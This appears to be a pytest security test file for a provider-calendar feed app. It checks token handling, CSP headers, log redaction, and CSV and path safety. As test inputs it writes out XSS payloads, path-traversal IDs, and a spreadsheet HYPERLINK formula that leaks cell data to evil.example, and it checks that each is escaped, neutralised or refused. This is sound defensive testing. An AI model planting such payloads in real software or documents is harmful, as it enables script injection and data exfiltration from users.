"""Privacy and web security (docs/design.md §6).

Which providers have a progress report is not public: their calendars live behind
tokens that are compared in constant time, replaced at once by a rotation, never sent
on in a Referer and never written whole to a log. Whatever text the rules or the roster
carry is shown as text: in pages, feeds and the spreadsheet twin.
"""

from __future__ import annotations

import csv
import hmac
import http.client
import io
import json
import logging
import re
import time
from pathlib import Path

import icalendar
import pytest
from click.testing import CliRunner

from calfeed.core import calendars, engine, tokens
from calfeed.cli import main
from calfeed.serve import redact, web

from conftest import SECRET, TODAY, make_app
from serving import SECRET as SERVER_SECRET
from serving import copy_data, fetch, gunicorn, rewrite

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def token_of(provider: str, rotation: int = 0, secret: str = SECRET) -> str:
    """The private token a provider has under a secret."""
    return tokens.token(secret.encode(), provider, rotation)


# --- tokens -----------------------------------------------------------------


def test_a_token_is_confirmed_with_a_constant_time_comparison(client, monkeypatch):
    compared = []
    real = hmac.compare_digest

    def spy(a, b):
        compared.append((a, b))
        return real(a, b)

    monkeypatch.setattr(hmac, "compare_digest", spy)
    token = token_of("demo-12-month")
    assert client.get(f"/p/{token}.ics").status_code == 200
    # the token the server holds against the one in the URL, compared by hmac, not ==
    assert (token.encode(), token.encode()) in compared
    compared.clear()
    assert client.get(f"/p/{token}/").status_code == 200
    assert compared == [(token.encode(), token.encode())]


def test_a_wrong_token_of_the_right_shape_finds_nothing(client):
    token = token_of("demo-12-month")
    for wrong in [token[:-1] + ("b" if token[-1] == "a" else "a"), token_of("demo-12-month", 1),
                  token_of("demo-12-month", 0, "another-secret-0123456789")]:
        assert len(wrong) == len(token)
        assert client.get(f"/p/{wrong}.ics").status_code == 404


def test_a_rotated_token_stops_working_at_once_in_every_form(tmp_path, data):
    client = make_app(tmp_path, data).test_client()
    old, new = token_of("demo-12-month", 0), token_of("demo-12-month", 1)
    forms = ["/", ".ics", ".json", ".csv",
             "/events/progress-12-month/2023-11/materials-due.ics"]
    for form in forms:
        assert client.get(f"/p/{old}{form}").status_code == 200, form
        assert client.get(f"/p/{new}{form}").status_code == 404, form
    roster = data / "providers.csv"
    lines = roster.read_text().splitlines()
    lines[0] += ",rotation"
    lines[1:] = [line + (",1" if line.startswith("demo-12-month,") else ",0") for line in lines[1:]]
    rewrite(roster, "\n".join(lines) + "\n")
    # the very next request, with no restart: the old URL is gone, the new one works
    for form in forms:
        assert client.get(f"/p/{old}{form}").status_code == 404, form
        assert client.get(f"/p/{new}{form}").status_code == 200, form
    # the others keep theirs
    assert client.get(f"/p/{token_of('demo-8-month')}.ics").status_code == 200


# --- headers ----------------------------------------------------------------


def _csp(header: str) -> dict[str, list[str]]:
    """A Content-Security-Policy as directive → sources."""
    policy = {}
    for directive in filter(str.strip, header.split(";")):
        name, *sources = directive.split()
        policy[name] = sources
    return policy


def test_every_answer_has_no_referrer_nosniff_and_a_strict_csp(client, monkeypatch):
    token = token_of("demo-8-month")
    answers = {
        "home page": client.get("/"),
        "provider page": client.get(f"/p/{token}/"),
        "builder page": client.get("/calendar/?next_decision_date=2024-07-31"),
        "provider feed": client.get(f"/p/{token}.ics"),
        "json twin": client.get(f"/p/{token}.json"),
        "csv twin": client.get(f"/p/{token}.csv"),
        "event": client.get(f"/p/{token}/events/progress-8-month/2023-11/decision.ics"),
        "304": client.get("/tracks/annual-reporting.ics", headers={
            "If-None-Match": client.get("/tracks/annual-reporting.ics").headers["ETag"]}),
        "HEAD": client.head(f"/p/{token}.ics"),
        "plain": client.get("/tracks/annual-reporting.ics?plain=1"),
        "download": client.get("/tracks/annual-reporting.ics?download=1"),
        "404": client.get(f"/p/{token[:-1]}x/"),
        "400 page": client.get("/calendar/?accreditor=nobody"),
        "400 feed": client.get("/calendar.ics?remind=soon"),
        "405": client.post("/calendar.ics"),
        "healthz": client.get("/healthz"),
        "stylesheet": client.get("/static/style.css"),
    }
    monkeypatch.setattr(engine, "calendar", lambda *a: 1 / 0)  # on every page, never cached
    answers["500"] = client.get(f"/p/{token}/")
    for what, response in answers.items():
        assert response.headers["Referrer-Policy"] == "no-referrer", what
        assert response.headers["X-Content-Type-Options"] == "nosniff", what
        policy = _csp(response.headers["Content-Security-Policy"])
        assert policy["default-src"] == ["'none'"], what
        assert policy["frame-ancestors"] == ["'none'"], what
        assert policy.get("base-uri") == ["'none'"], what
        for sources in policy.values():
            assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:", "http:", "https:"} \
                & set(sources), (what, sources)
        assert "script-src" not in policy, what  # no script at all: default-src 'none'
    assert answers["500"].status_code == 500
    assert answers["304"].status_code == 304


def test_pages_carry_no_inline_script_or_style_the_policy_would_block(client):
    for path in ["/", f"/p/{token_of('demo-state')}/", "/tracks/annual-reporting/",
                 "/calendar/?enduring_materials=yes", "/nowhere"]:
        page = client.get(path).data.decode()
        assert "<script" not in page, path
        assert not re.search(r"\son[a-z]+\s*=", page), path  # onclick=, onload=
        assert " style=" not in page and "<style" not in page, path


# --- hostile text -----------------------------------------------------------


@pytest.fixture
def hostile(tmp_path, data):
    """Rules and a roster whose texts are attacks: a script, an img breaking out of an
    attribute, a spreadsheet formula."""
    rules = data / "rules.toml"
    text = rules.read_text()
    text = text.replace('title = "Provider remits the progress report review fee"',
                        f"title = '{SCRIPT} remits the fee'", 1)
    text = text.replace('description = "Provider enters CME activity data.',
                        f"description = '{IMG} enters data.' # ", 1)
    text = text.replace('title = "Provider enters CME activity data"',
                        f"title = '{FORMULA}'", 1)
    rules.write_text(text)
    with (data / "providers.csv").open("a") as roster:
        roster.write(f'evil,"{SCRIPT}{IMG.replace(chr(34), chr(34) * 2)}",2024-07-31,no,,\n')
    return make_app(tmp_path, data).test_client()


def test_hostile_texts_are_escaped_in_pages(hostile):
    token = token_of("evil")
    for path in [f"/p/{token}/", "/tracks/progress-8-month/",
                 "/calendar/?next_decision_date=2024-07-31"]:
        page = hostile.get(path).data.decode()
        assert hostile.get(path).status_code == 200
        assert "<script" not in page and "<img" not in page, path
        assert "&lt;script&gt;alert(1)&lt;/script&gt; remits the fee" in page, path
        assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt; enters data." in page, path
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;&gt;&lt;img" in hostile.get(
        f"/p/{token}/").data.decode()


def test_hostile_texts_are_plain_text_in_the_feed_and_json(hostile):
    token = token_of("evil")
    feed = icalendar.Calendar.from_ical(hostile.get(f"/p/{token}.ics").data)
    summaries = {str(e["SUMMARY"]): str(e["DESCRIPTION"]) for e in feed.walk("VEVENT")}
    assert FORMULA in summaries  # the feed is not a spreadsheet: the title as written
    assert summaries[FORMULA].startswith(f"{IMG} enters data.")
    assert str(feed["X-WR-CALNAME"]).startswith(SCRIPT + IMG)
    served = json.loads(hostile.get(f"/p/{token}.json").data)
    assert served["calendar"]["name"].startswith(SCRIPT + IMG)
    titles = {e["milestone"]: e["title"] for e in served["events"]}
    assert titles["review-fee"] == f"{SCRIPT} remits the fee"
    assert titles["enter-activity-data"] == FORMULA


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile):
    response = hostile.get(f"/p/{token_of('evil')}.csv")
    rows = {row["milestone"]: row for row in csv.DictReader(io.StringIO(response.data.decode()))}
    # an apostrophe in front: Excel, LibreOffice and Sheets show the text, run nothing
    assert rows["enter-activity-data"]["Step"] == "'" + FORMULA
    assert rows["review-fee"]["Step"] == f"{SCRIPT} remits the fee"
    assert rows["enter-activity-data"]["Details"].startswith(IMG)
    for row in rows.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), cell


@pytest.mark.parametrize("key, text, cell", [
    ("title", "+1+2", "'+1+2"), ("title", "-2+3", "'-2+3"), ("title", "=1", "'=1"),
    ("title", "@SUM(A1:A2)", "'@SUM(A1:A2)"),
    # a title is one line, so tabs and line breaks can only start a description
    ("description", "\t=1", "'\t=1"), ("description", "\r=1", "'\n=1"),
    ("description", "\n=1", "'\n=1")])
def test_every_formula_start_is_neutralised(tmp_path, data, key, text, cell):
    rules = data / "rules.toml"
    value = json.dumps(text)  # a TOML basic string, escapes included
    rules.write_text(rules.read_text().replace(
        f'{key} = "Provider remits the progress report review fee', f"{key} = {value} #", 1))
    client = make_app(tmp_path, data).test_client()
    body = client.get("/calendar.csv?next_decision_date=2024-07-31").data.decode()
    rows = {row["milestone"]: row for row in csv.DictReader(io.StringIO(body))}
    assert rows["review-fee"][{"title": "Step", "description": "Details"}[key]] == cell


# --- ids that could climb out of a folder -------------------------------------


@pytest.mark.parametrize("bad_id", ["../../escaped", "a/../../escaped", "..", "a b", "é", "a.ics",
                                    "/tmp/escaped", "a%2F..%2Fescaped"])
def test_build_refuses_a_roster_with_an_id_that_is_not_url_safe(tmp_path, data, bad_id):
    roster = data / "providers.csv"
    with roster.open("a") as handle:
        handle.write(f'"{bad_id}",Escape Artist,,no,,\n')
    outdir = tmp_path / "site" / "out"
    outdir.parent.mkdir()
    before = sorted(p for p in tmp_path.rglob("*"))
    result = CliRunner().invoke(main, ["build", str(outdir), "--rules", str(data / "rules.toml"),
                                       "--providers", str(roster), "--today", TODAY],
                                env={"CALFEED_SECRET_KEY": SECRET})
    assert result.exit_code == 1, result.output
    assert "column id" in result.output
    assert isinstance(result.exception, SystemExit), result.exception
    # nothing written anywhere: not outside OUTDIR, and no half site inside it
    assert sorted(p for p in tmp_path.rglob("*")) == before
    assert not Path("/tmp/escaped").exists()


def test_build_refuses_rules_with_an_id_that_is_not_url_safe(tmp_path, data):
    rules = data / "rules.toml"
    rules.write_text(rules.read_text().replace('id = "decision"', 'id = "../../decision"', 1))
    outdir = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(outdir), "--rules", str(rules),
                                       "--today", TODAY], env={"CALFEED_SECRET_KEY": SECRET})
    assert result.exit_code == 1, result.output
    assert '"../../decision" is not safe in a URL path' in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert not outdir.exists() and not (tmp_path / "decision.ics").exists()


# --- logs -------------------------------------------------------------------


def test_the_app_logs_only_a_token_prefix_when_a_provider_request_fails(client, monkeypatch,
                                                                        caplog):
    token = token_of("demo-annual")
    monkeypatch.setattr(engine, "calendar", lambda *a: 1 / 0)  # on every page, never cached
    with caplog.at_level(logging.DEBUG):
        assert client.get(f"/p/{token}/").status_code == 500
        assert client.get(f"/p/{token[:-1]}z.ics").status_code == 404
    assert f"/p/{token[:6]}.../" in caplog.text
    assert token not in caplog.text and token[:-1] not in caplog.text
    for record in caplog.records:
        assert token[:7] not in record.getMessage() + str(record.exc_text or "")


@pytest.mark.gunicorn
def test_gunicorns_access_log_shows_only_a_token_prefix(tmp_path):
    # the production settings (deploy/gunicorn.conf.py) with gunicorn's default line, and
    # with a line printing every value that can carry a path: path, query, raw URI, Referer
    rules, roster = copy_data(tmp_path / "data")
    env = {"CALFEED_RULES": str(rules), "CALFEED_PROVIDERS": str(roster)}
    every_value = ('%(r)s %(U)s ?%(q)s %(f)s %({referer}i)s %({raw_uri}e)s '
                   '%({path_info}e)s %({x-original-url}i)s')
    for name, line_format in [("default", None), ("every", every_value)]:
        with gunicorn(tmp_path / name, env, access_log_format=line_format) as server:
            token = token_of("demo-8-month", secret=SERVER_SECRET)
            status, _, _ = fetch(server.base + f"/p/{token}.ics?from=/p/{token}/", {
                "Referer": f"{server.base}/p/{token}/", "X-Original-URL": f"/p/{token}/"})
            assert status == 200
            assert fetch(server.base + f"/p/{token}/events/annual-reporting/2025/"
                         f"program-summary.ics")[0] == 200
            assert fetch(server.base + f"/p/{token[:-1]}x/")[0] == 404
            logged = server.access_log.read_text() + server.log.read_text()
        assert token not in logged and token[:-1] not in logged, name
        assert token[:7] not in logged, name
        assert f"/p/{token[:6]}....ics" in logged, name
        assert f"/p/{token[:6]}.../events/annual-reporting/2025/program-summary.ics" in logged


# Every spelling of a private path a client can send, and what gunicorn and werkzeug make
# of it: escapes are decoded before routing, doubled slashes redirected (308), dotted
# segments left as they are (404). Whatever the answer, the token is in the request line.
SPELLINGS = [
    ("/p/{t}.ics", 200), ("/%70/{t}.ics", 200), ("/%2570/{t}.ics", 404), ("/p%2F{t}.ics", 200),
    ("/p%2f{t}.ics", 200), ("//p/{t}.ics", 200), ("/p/{e}.ics", 200), ("/p/{t}%2Eics", 200),
    ("/p/{t}%2F", 200), ("/p/{t}/remind-1w.ics", 200), ("/p//{t}/", 308),
    ("/p///{t}.ics", 308), ("/p/{t}", 308), ("/p/{t}//", 308), ("/p/./{t}.ics", 404),
    ("/./p/{t}.ics", 404), ("/p/.%2E/p/{t}.ics", 404), ("/x/../p/{t}.ics", 404),
]


def spelt(spelling: str, token: str) -> str:
    """A spelling with the token in it (`{e}`: its first letter percent-encoded)."""
    return spelling.format(t=token, e=f"%{ord(token[0]):02X}{token[1:]}")


def test_a_token_is_cut_from_a_log_line_however_the_path_spells_it():
    token = token_of("demo-8-month")
    for spelling, _ in SPELLINGS:
        line = redact.redact(f'"GET {spelt(spelling, token)} HTTP/1.1" 200 -')
        assert token[:7] not in line, line
        assert f"{token[:6]}..." in line, line
    # decoding to find a token never writes a line break, a space or a quote into a line
    line = redact.redact(f"/p/{token}.ics?x=%0Afake%20line%22")
    assert line == f"/p/{token[:6]}....ics?x=%0Afake%20line%22"
    # a line already cut is left as it is
    assert redact.redact(f"/p/{token[:6]}.../") == f"/p/{token[:6]}.../"


def test_the_development_servers_request_line_is_cut_too(app, caplog):
    # `calfeed run` logs through werkzeug's logger, which the app filters
    token = token_of("demo-8-month")
    with caplog.at_level(logging.INFO, logger="werkzeug"):
        logging.getLogger("werkzeug").info('127.0.0.1 - - "%s %s %s" %s -', "GET",
                                           f"/%70/{token}.ics", "HTTP/1.1", 200)
    assert caplog.records[-1].getMessage() == \
        f'127.0.0.1 - - "GET /p/{token[:6]}....ics HTTP/1.1" 200 -'


def test_every_route_with_a_token_is_under_a_private_prefix(app):
    # the redaction covers one list of prefixes: a new private kind of calendar (/g/<token>)
    # must be in it, or its tokens would reach the logs
    private = [rule.rule for rule in app.url_map.iter_rules() if "token" in rule.arguments]
    # every shape of the provider's and the group's calendars, and the group's page by name
    assert len(private) == 2 * len(web.SHAPES) + 1
    for rule in private:
        assert rule.split("/")[1] in calendars.PRIVATE_PREFIXES, rule


@pytest.mark.gunicorn
def test_gunicorns_access_log_cuts_a_token_however_the_path_spells_it(tmp_path):
    rules, roster = copy_data(tmp_path / "data")
    env = {"CALFEED_RULES": str(rules), "CALFEED_PROVIDERS": str(roster)}
    every_value = ('%(s)s %(r)s %(U)s ?%(q)s %({referer}i)s %({raw_uri}e)s %({path_info}e)s '
                   '%({location}o)s')
    token = token_of("demo-8-month", secret=SERVER_SECRET)
    with gunicorn(tmp_path / "server", env, access_log_format=every_value) as server:
        host, port = server.base.removeprefix("http://").split(":")
        answered = []
        for spelling, _ in SPELLINGS:
            # http.client sends the path byte for byte, as a scanner or a careless client does
            connection = http.client.HTTPConnection(host, int(port), timeout=10)
            connection.putrequest("GET", spelt(spelling, token))
            connection.putheader("Referer", f"{server.base}{spelt(spelling, token)}")
            connection.endheaders()
            response = connection.getresponse()
            response.read()
            connection.close()
            answered.append((spelling, response.status))
        time.sleep(0.5)  # gunicorn writes the access line after the answer
        logged = server.access_log.read_text() + server.log.read_text()
    assert answered == SPELLINGS
    assert len(server.access_lines()) >= len(SPELLINGS)
    assert token[:7] not in logged
    assert logged.count(f"{token[:6]}...") >= 4 * len(SPELLINGS)


def test_pages_say_no_referrer_in_the_html_too(client):
    """A static host without headers (S3) still keeps the token out of Referer."""
    page = client.get(f"/p/{token_of('demo-8-month')}/").get_data(as_text=True)
    assert '<meta name="referrer" content="no-referrer">' in page
